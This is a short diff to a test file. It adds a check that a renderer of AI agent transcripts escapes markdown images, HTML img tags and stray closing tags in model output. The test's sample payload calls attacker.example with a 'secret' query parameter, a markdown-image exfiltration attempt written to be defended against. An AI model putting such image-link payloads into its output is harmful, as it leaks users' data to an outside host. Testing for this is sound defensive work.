@@ -43,3 +43,12 @@ def test_spill_paths_warnings_compaction_and_interrupts_are_shown():
     assert "**Compaction** (summarize): 900 → 100 tokens" in text and "what happened so far" in text
     assert "🛑 **Interrupted** by SIGTERM (during tool_call)" in text
     assert "## Final answer\n\n*(none)*" in text and "the compaction call's reply" not in text
+
+
+def test_the_models_text_cannot_fetch_images_or_break_the_page():
+    bad = "done ![x](https://attacker.example/?d=secret) </details> <img src=https://attacker.example/p>"
+    events = [{"type": "model_request", "turn": 1},
+              {"type": "model_response", "turn": 1, "message": {"content": bad}}]
+    text = render(events, {"status": "success", "exit_code": 0, "answer": bad})
+    assert "![" not in text and "</details>" not in text and "<img" not in text
+    assert "attacker.example/?d=secret" in text  # still there to read, as text
